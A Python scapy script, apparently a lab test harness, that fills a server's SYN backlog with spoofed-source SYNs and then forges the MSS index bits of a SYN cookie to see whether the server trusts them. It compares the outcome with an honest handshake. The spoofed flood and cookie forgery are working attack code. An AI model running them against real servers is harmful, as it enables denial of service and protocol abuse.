# The forged SYN cookie attack, from a namespace, in raw frames (scapy):
#   forged_cookie.py SERVER SPOOFED_SOURCE FLOOD_COUNT
# 1. fills the server's SYN backlog with SYNs from SPOOFED_SOURCE (an address nobody answers ARP for), so every
#    later SYN is answered with a cookie;
# 2. from our own address, a SYN announcing MSS 9000; the SYN-ACK's sequence number is the cookie;
# 3. the third packet with the cookie's MSS index bits (24-26) changed to 7, followed by GET /big.bin: a server
#    that trusts the index sends 9000-byte segments;
# 4. an honest cookie handshake on another port and the same GET: the segments that come back.
# Needs outgoing resets from the namespace's own kernel dropped (it knows nothing of these connections).
# Prints one line of key=value pairs.
import random
import sys
import threading

from scapy.all import IP, TCP, Raw, AsyncSniffer, conf, send, sr1

conf.verb = 0
server, spoofed, flood = sys.argv[1], sys.argv[2], int(sys.argv[3])
PORT = 80
# The namespace has no default route, so scapy's default interface is lo: sniff where the server is.
IFACE = conf.route.route(server)[0]
random.seed(14)

for i in range(flood):
    send(IP(src=spoofed, dst=server) / TCP(sport=20000 + i, dport=PORT, flags="S", seq=random.getrandbits(32)))


def handshake_start(sport):
    isn = random.getrandbits(32)
    synack = sr1(IP(dst=server) / TCP(sport=sport, dport=PORT, flags="S", seq=isn, options=[("MSS", 9000)]),
                 timeout=3, retry=3)
    if synack is None or not synack.haslayer(TCP) or synack[TCP].flags != "SA":
        print("result=no-synack")
        sys.exit(1)
    mss = dict((k, v) for k, v in synack[TCP].options if isinstance(k, str)).get("MSS", -1)
    return isn, synack[TCP].seq, mss


def request(sport, isn, ack):
    """The third packet, then the request; returns the server's answers within a two-second window."""
    ready = threading.Event()
    sniffer = AsyncSniffer(filter=f"tcp and src host {server} and src port {PORT} and dst port {sport}", timeout=2,
                           iface=IFACE, started_callback=ready.set)
    sniffer.start()
    ready.wait(5)
    send(IP(dst=server) / TCP(sport=sport, dport=PORT, flags="A", seq=isn + 1, ack=ack))
    get = b"GET /big.bin HTTP/1.1\r\nHost: lightpath\r\n\r\n"
    send(IP(dst=server) / TCP(sport=sport, dport=PORT, flags="PA", seq=isn + 1, ack=ack) / Raw(get))
    sniffer.join()
    return sniffer.results


isn, cookie, announced = handshake_start(41000)
index = (cookie >> 24) & 7
forged_index = 7 if index != 7 else 6
forged = ((cookie & ~(7 << 24)) | (forged_index << 24)) & 0xFFFFFFFF
answers = request(41000, isn, (forged + 1) & 0xFFFFFFFF)
forged_resets = sum(1 for p in answers if p[TCP].flags & 0x04)
forged_data = sum(len(p[TCP].payload) for p in answers)

isn, cookie, announced = handshake_start(41001)
answers = request(41001, isn, (cookie + 1) & 0xFFFFFFFF)
payloads = [len(p[TCP].payload) for p in answers if len(p[TCP].payload) > 0]
print(f"result=done cookie_index={index} forged_resets={forged_resets} forged_data={forged_data} "
      f"announced_mss={announced} honest_segments={len(payloads)} honest_max_payload={max(payloads, default=0)}")
